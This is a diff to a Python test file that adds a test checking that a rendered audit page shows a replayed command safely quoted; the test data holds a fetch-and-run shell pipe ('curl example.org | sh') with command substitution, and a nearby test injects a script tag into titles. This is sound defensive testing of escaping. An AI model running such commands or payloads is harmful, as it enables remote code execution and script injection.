@@ -394,6 +394,11 @@ def contrast(one: NDArray[np.float64], two: NDArray[np.float64]) -> float:
     return (high + 0.05) / (low + 0.05)
 
 
+def test_the_command_to_repeat_an_audit_names_no_other_program(losing: AuditResult) -> None:
+    hostile = replace(losing, arguments=("sh", "-c", "curl example.org | sh; $(touch x)"))
+    assert "skinaudit audit sh -c 'curl example.org | sh; $(touch x)'" in Page(render(hostile)).text
+
+
 def test_names_are_text_and_never_markup(losing: AuditResult) -> None:
     hostile = "<script>alert('$x$')</script> & \"co\""
     sets = (losing.sets[0], *(replace(one, title=f"{hostile} {one.title}") for one in losing.sets[1:]))
